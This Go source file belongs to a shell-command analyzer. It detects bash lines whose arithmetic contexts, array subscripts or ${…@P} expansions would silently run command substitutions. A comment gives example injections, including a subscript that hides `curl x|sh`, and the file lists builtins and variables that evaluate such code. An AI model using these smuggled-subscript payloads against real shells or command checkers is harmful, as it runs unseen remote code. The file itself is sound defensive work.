package shell

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Variables and arithmetic: what a line sets, and where bash evaluates a
// value as code (array subscripts in arithmetic) or as a path no lexical
// check can see.

// arithmetic appends an opaque segment when the line makes bash evaluate,
// as arithmetic, a value the line may have set to a string, or a literal
// subscript: bash expands the array subscripts in such a value and runs the
// command substitutions in them, a program the line does not show
// (for x in 'a[$(curl x|sh)]'; do ls $((x)); done runs curl and sh;
// unset 'a[$(git push)]' runs git push).
func (a *analyzer) arithmetic(src string, f *syntax.File, cwd CwdSet) {
	if !strings.Contains(src, "[") && !strings.Contains(src, "((") && !strings.Contains(src, "let") &&
		!strings.Contains(src, "${") && !strings.Contains(src, "declare") && !strings.Contains(src, "typeset") &&
		!strings.Contains(src, "local") {
		return // no arithmetic context and no subscript
	}
	if a.tainted == nil {
		a.tainted = map[string]bool{}
	}
	// The variables the line, a script in it or the line around it may set
	// to something other than an integer (exported, or set for bash -c).
	for ; a.taintOf < len(a.files); a.taintOf++ {
		a.taint(a.files[a.taintOf].src, a.files[a.taintOf].f)
	}
	risk, riskAt := "", ""
	mark := func(n syntax.Node, why string) {
		if risk == "" {
			risk, riskAt = why, sourceOf(src, n)
		}
	}
	// Where bash evaluates arithmetic, and what names it reads there.
	check := func(ctx syntax.Node, exprs ...syntax.Node) {
		for _, e := range exprs {
			if e == nil || reflectNil(e) {
				continue
			}
			syntax.Walk(e, func(n syntax.Node) bool {
				var names []string
				switch x := n.(type) {
				case *syntax.Lit:
					names = identifiers(x.Value)
					if quotedCode(x.Value) {
						mark(ctx, "a quoted command substitution evaluated as arithmetic")
					}
				case *syntax.ParamExp:
					if x.Param != nil {
						names = []string{x.Param.Value}
					}
				case *syntax.SglQuoted:
					names = identifiers(x.Value)
					if quotedCode(x.Value) {
						mark(ctx, "a quoted command substitution evaluated as arithmetic")
					}
				}
				for _, name := range names {
					switch {
					case a.tainted[name]:
						mark(ctx, "arithmetic on "+name+", which the line sets to a string, can run the commands in its subscripts")
					case stringSpecials[name] || isDigits(name):
						mark(ctx, "arithmetic on $"+name+", which bash fills with text the line controls, can run the commands in its subscripts")
					}
				}
				return risk == ""
			})
		}
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.ArithmExp:
			check(x, x.X)
		case *syntax.ArithmCmd:
			check(x, x.X)
		case *syntax.LetClause:
			for _, e := range x.Exprs {
				check(x, e)
			}
		case *syntax.CStyleLoop:
			check(x, x.Init, x.Cond, x.Post)
		case *syntax.ParamExp:
			if x.Exp != nil && x.Exp.Op == syntax.OtherParamOps && x.Exp.Word != nil && x.Exp.Word.Lit() == "P" {
				mark(x, "${…@P} expands a value as a prompt, which runs the command substitutions in it")
			}
			if x.Excl && x.Param != nil && a.tainted[x.Param.Value] {
				mark(x, "${!"+x.Param.Value+"} names a variable the line sets to a string, whose subscript can run commands")
			}
			if x.Index != nil {
				check(x, x.Index)
			}
			if x.Slice != nil {
				check(x, x.Slice.Offset, x.Slice.Length)
			}
		case *syntax.Assign:
			if x.Index != nil {
				check(x, x.Index)
			}
		case *syntax.BinaryTest:
			switch x.Op {
			case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
				check(x, x.X, x.Y)
			}
		case *syntax.UnaryTest:
			if x.Op == syntax.TsVarSet {
				check(x, x.X)
			}
		case *syntax.DeclClause:
			integer := false
			for _, as := range x.Args {
				if as.Naked && as.Name == nil && as.Value != nil && strings.HasPrefix(DecodeWord(src, as.Value).Text, "-") &&
					strings.Contains(DecodeWord(src, as.Value).Text, "i") {
					integer = true
				}
			}
			for _, as := range x.Args {
				if integer && as.Value != nil && !as.Naked && !isIntegerWord(src, as.Value) {
					mark(x, "declare -i evaluates its values as arithmetic")
				}
				if as.Value != nil && codeInSubscript(DecodeWord(src, as.Value).Text) {
					mark(x, "a subscript holding a command substitution is evaluated")
				}
			}
		case *syntax.CallExpr:
			if len(x.Args) > 0 && evaluatesSubscripts[Base(DecodeWord(src, x.Args[0]).Text)] {
				for _, w := range x.Args[1:] {
					if codeInSubscript(DecodeWord(src, w).Text) {
						mark(x, "a subscript holding a command substitution is evaluated")
					}
				}
			}
		}
		return risk == ""
	})
	if risk != "" {
		a.segs = append(a.segs, &Segment{Text: riskAt, Cwds: cwd, Opaque: risk})
	}
}

// taint records the variables a line may set to something other than an
// integer: loop variables, assignments, ${x:=…}, and the names given to
// read, printf -v, declare and the like.
func (a *analyzer) taint(src string, f *syntax.File) {
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.WordIter:
			for _, it := range x.Items {
				if !isIntegerWord(src, it) {
					a.tainted[x.Name.Value] = true
				}
			}
			if x.InPos == (syntax.Pos{}) {
				a.tainted[x.Name.Value] = true // for x; do …: the arguments
			}
		case *syntax.Assign:
			switch {
			case x.Name != nil && (x.Array != nil || x.Value == nil && !x.Naked || x.Value != nil && !isIntegerWord(src, x.Value)):
				a.tainted[x.Name.Value] = true
			case x.Name != nil && x.Naked:
				a.tainted[x.Name.Value] = true // declare -n x, read into x
			case x.Name == nil && x.Value != nil:
				a.tainted[strings.SplitN(DecodeWord(src, x.Value).Text, "=", 2)[0]] = true
			}
		case *syntax.ParamExp:
			if x.Exp != nil && (x.Exp.Op == syntax.AssignUnset || x.Exp.Op == syntax.AssignUnsetOrNull) && x.Param != nil {
				a.tainted[x.Param.Value] = true
			}
		case *syntax.CallExpr:
			if len(x.Args) > 0 && setsVariables[Base(DecodeWord(src, x.Args[0]).Text)] {
				for _, w := range x.Args[1:] {
					name, _, _ := strings.Cut(DecodeWord(src, w).Text, "=")
					a.tainted[name] = true
				}
				for _, name := range assignedNames(src, x.Args) {
					a.tainted[name] = true // printf -vq, read -a x: the glued names
				}
			}
		}
		return true
	})
}

// stringSpecials are bash's own variables that hold text the line
// controls: the last argument ($_), a regex match, what read or mapfile
// read, the command line itself.
var stringSpecials = Set("_", "BASH_REMATCH", "REPLY", "MAPFILE", "OPTARG", "BASH_COMMAND", "BASH_ARGV",
	"BASH_ARGV0", "BASH_EXECUTION_STRING", "BASH_SOURCE", "FUNCNAME", "COMPREPLY", "COMP_LINE",
	"COMP_WORDS", "DIRSTACK", "PWD", "OLDPWD", "READLINE_LINE", "HISTCMD", "PIPESTATUS", "GROUPS", "BASH_LINENO")

// setsVariables are the commands that set the variables their arguments
// name (env and declare's forms when run as ordinary commands).
var setsVariables = Set("read", "mapfile", "readarray", "getopts", "printf", "env",
	"declare", "typeset", "local", "export", "readonly")

// evaluatesSubscripts are the builtins that evaluate an array subscript
// written in their arguments.
var evaluatesSubscripts = Set("unset", "printf", "read", "mapfile", "readarray", "test", "[",
	"getopts", "wait", "declare", "typeset", "local", "export", "readonly", "let")

// quotedCode reports whether a literal holds a command substitution that
// quoting or backslashes kept from running, until something evaluates it.
func quotedCode(v string) bool {
	v = strings.ReplaceAll(v, "\\", "")
	return strings.Contains(v, "$(") || strings.Contains(v, "`")
}

func codeInSubscript(s string) bool {
	i := strings.IndexByte(s, '[')
	return i >= 0 && (strings.Contains(s[i:], "$(") || strings.Contains(s[i:], "`") || strings.Contains(s[i:], "${"))
}

func isIntegerWord(src string, w *syntax.Word) bool {
	d := DecodeWord(src, w)
	t := strings.TrimLeft(d.Text, "+-")
	return d.Static && isDigits(t)
}

// identifiers returns the shell names in an arithmetic literal.
func identifiers(s string) []string {
	var out []string
	for i := 0; i < len(s); {
		c := s[i]
		if c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			j := i + 1
			for j < len(s) && (s[j] == '_' || s[j] >= 'a' && s[j] <= 'z' || s[j] >= 'A' && s[j] <= 'Z' || s[j] >= '0' && s[j] <= '9') {
				j++
			}
			out = append(out, s[i:j])
			i = j
			continue
		}
		if c >= '0' && c <= '9' { // 0x1f, 64#z: a number, not a name
			for i < len(s) && (s[i] == '_' || s[i] == '#' || s[i] >= 'a' && s[i] <= 'z' || s[i] >= 'A' && s[i] <= 'Z' || s[i] >= '0' && s[i] <= '9') {
				i++
			}
			continue
		}
		i++
	}
	return out
}

// reflectNil reports whether an interface holds a nil pointer, which
// syntax.Walk must not be given.
func reflectNil(n syntax.Node) bool {
	switch x := n.(type) {
	case *syntax.Word:
		return x == nil
	case *syntax.BinaryArithm:
		return x == nil
	case *syntax.UnaryArithm:
		return x == nil
	case *syntax.ParenArithm:
		return x == nil
	}
	return false
}

// Base returns the last element of a verb written as a path.
func Base(verb string) string {
	if i := strings.LastIndexByte(verb, '/'); i >= 0 && i < len(verb)-1 {
		return verb[i+1:]
	}
	return verb
}
